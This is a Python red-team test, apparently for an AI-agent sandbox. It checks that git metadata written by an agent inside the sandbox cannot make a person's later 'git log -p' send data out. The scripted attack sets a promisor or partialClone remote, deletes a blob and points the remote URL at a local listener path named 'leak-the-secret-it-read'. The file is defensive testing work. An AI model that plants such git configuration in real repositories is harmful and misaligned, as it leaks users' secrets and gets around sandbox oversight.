"""Red team (rtgit) of a promisor remote in a `.git` a command no person approved made:
`remote.origin.promisor = true` (or `extensions.partialClone`) was among the keys a made
`.git` may hold, and git fetches a missing object from a promisor remote unasked. With a
commit whose blob it removed and `remote.origin.url = http://host/<what it read>`, a
command with no network had the person's `git log -p` in that repository send it. Real
bwrap, real git, a real HTTP server standing for the host."""

from __future__ import annotations

import http.server
import os
import subprocess
import threading
from pathlib import Path

import pytest

from dispatcher.tools import sandbox
from tests.redteam.test_git_metadata_guard import agent_in_sandbox, host_git, repository
from tests.redteam.test_git_metadata_guard2 import sandboxed
from tests.redteam.test_git_metadata_guard_rt12 import G
from tests.support.factories import AgentFixture

pytestmark = pytest.mark.django_db

__all__ = ["agent_in_sandbox"]  # the fixture, used by name


class _Listener(http.server.BaseHTTPRequestHandler):
    heard: list[str] = []

    def do_GET(self) -> None:
        self.heard.append(self.path)
        self.send_response(404)
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *args: object) -> None:
        pass


@pytest.mark.parametrize(
    "keys",
    [
        "git config remote.origin.promisor true",
        "git config core.repositoryformatversion 1 && git config extensions.partialClone origin",
    ],
    ids=["promisor", "partialclone"],
)
def test_a_made_promisor_remote_sends_nothing_at_a_persons_log(
    agent_in_sandbox: AgentFixture, keys: str
) -> None:
    _, workspace = repository(agent_in_sandbox)
    (workspace / "a").write_text("a\n")
    host_git(workspace, *G, "add", "a")
    host_git(workspace, *G, "commit", "-qm", "a")
    sandbox.give_to_sandbox(workspace)
    server = http.server.HTTPServer(("127.0.0.1", 0), _Listener)
    _Listener.heard = []
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        url = f"http://127.0.0.1:{server.server_port}/leak-the-secret-it-read"
        script = (
            "git init -q sub && cd sub && echo secret > f && git add f && "
            "git -c user.email=a@b -c user.name=A commit -qm a && B=$(git rev-parse HEAD:f) && "
            f"rm -f .git/objects/${{B:0:2}}/${{B:2}} && git config remote.origin.url {url} && "
            f"{keys} && echo done"
        )
        output = sandboxed(workspace, script)
        assert "done" in output, output
        assert "made the git directory 'sub/.git'" in output, output
        done = subprocess.run(
            ["git", "-c", "safe.directory=*", "log", "-p"],
            cwd=workspace / "sub",
            env={**os.environ, "GIT_TERMINAL_PROMPT": "0"},
            capture_output=True,
            text=True,
            timeout=30,
            check=False,
        )
        assert _Listener.heard == [], (output, done.stdout + done.stderr)
    finally:
        server.shutdown()
        server.server_close()
    assert Path(workspace / "sub" / "f").read_text() == "secret\n"
